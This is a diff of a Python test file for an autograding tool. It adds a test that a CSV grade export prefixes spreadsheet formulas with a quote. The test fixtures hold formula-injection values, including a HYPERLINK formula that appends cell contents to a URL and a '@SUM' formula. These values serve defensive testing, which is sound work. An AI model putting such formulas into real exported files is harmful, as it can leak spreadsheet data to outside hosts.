@@ -15,9 +15,9 @@ from autograde.__main__ import main
 from autograde.build import source_notebook
 from autograde.classroom import Course, grade_class
 from autograde.collecting import collect, told
-from autograde.exporting import quoted
 from autograde.lesson import ROOT, CourseError, read_lesson
 from autograde.lms import read_participants
+from autograde.spreadsheets import CsvExport, quoted
 
 TRAINS = read_lesson("07_convolutional_vae")
 RIGHT = notebook()
@@ -313,6 +313,18 @@ def test_cells_that_a_spreadsheet_would_run_are_quoted(cell):
 @pytest.mark.parametrize("cell", ["-1.5", "+3", "", "Ada", "O'Hara"])
 def test_other_cells_stay(cell):
     assert quoted(cell) == cell
+
+
+def test_nbgraders_own_export_is_a_table_that_runs_nothing(empty, tmp_path):
+    formula = '=HYPERLINK("https://example.org/"&A1, "see, here")'
+    with Gradebook(*empty.database) as book:
+        book.add_student("ada", last_name=formula, first_name="@SUM(A1)", email="a,b@example.org")
+        book.add_student("bob")
+        plugin = CsvExport(to=str(tmp_path / "grades.csv"), student=["ada"])
+        plugin.export(book)
+    (row,) = csv.DictReader(io.StringIO((tmp_path / "grades.csv").read_text(encoding="utf-8")))
+    assert (row["last_name"], row["first_name"], row["email"]) == (f"'{formula}", "'@SUM(A1)", "a,b@example.org")
+    assert (row["assignment"], row["score"], float(row["max_score"])) == (LESSON.name, "0", POINTS)
 
 
 def test_a_list_with_semicolons_is_read_and_two_of_one_name_are_told(empty, tmp_path):
